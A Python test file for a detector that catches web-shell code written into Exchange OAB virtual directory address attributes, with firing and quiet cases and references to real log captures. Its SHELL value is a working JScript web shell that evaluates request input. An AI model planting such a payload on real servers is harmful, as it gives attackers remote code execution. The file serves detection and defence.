"""Addresses of Exchange's web directories: scripts and ordinary ones."""

from tests.cases.case import Case, Real
from tests.engine.detectors.builders_changes import BASE, dn, modify, written

OAB = f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX1,CN=Servers,CN=Configuration,{BASE}"
ATTRIBUTE = "msExchExternalHostName"
SHELL = 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'
KIND = "msExchOABVirtualDirectory"
FIRES = {
    "the internal address in the log": written(OAB, "msExchInternalHostName", SHELL, user="EX1$", kind=KIND),
    "over LDAP": Case([modify(OAB, ATTRIBUTE, SHELL, user="EX1$")], severity="high", external_id=2414),
    "in the log": written(OAB, ATTRIBUTE, SHELL, "https://mail.example.org/OAB", user="EX1$", kind=KIND),
    "in the internal address": [modify(OAB, "msExchInternalHostName", "http://f/<% Response.Write(1) %>", user="EX1$")],
}
QUIET = {
    "another attribute in the log": written(OAB, "description", SHELL, user="EX1$", kind=KIND),
    "an ordinary address": [modify(OAB, ATTRIBUTE, "https://mail.example.org/OAB", user="EX1$")],
    "an ordinary address in the log": written(OAB, ATTRIBUTE, "https://mail.example.org/OAB", user="EX1$", kind=KIND),
    "the script taken away": written(OAB, ATTRIBUTE, "", SHELL, user="EX1$", kind=KIND),
    "a script in another attribute": [modify(dn("dora"), "info", "<script>x</script>")],
    "the address of the mail of browsers": [
        modify(OAB.replace("OAB", "owa"), "msExchInternalHostName", "https://mail.example.org/owa?script=1", user="EX1$"),
    ],
}
REAL = (
    Real("corpus/evtx/sb_PR_privexchange_dirkjan.evtx", fires=False),
    Real("lab/captures/benign_workday.pcap", fires=False),
)
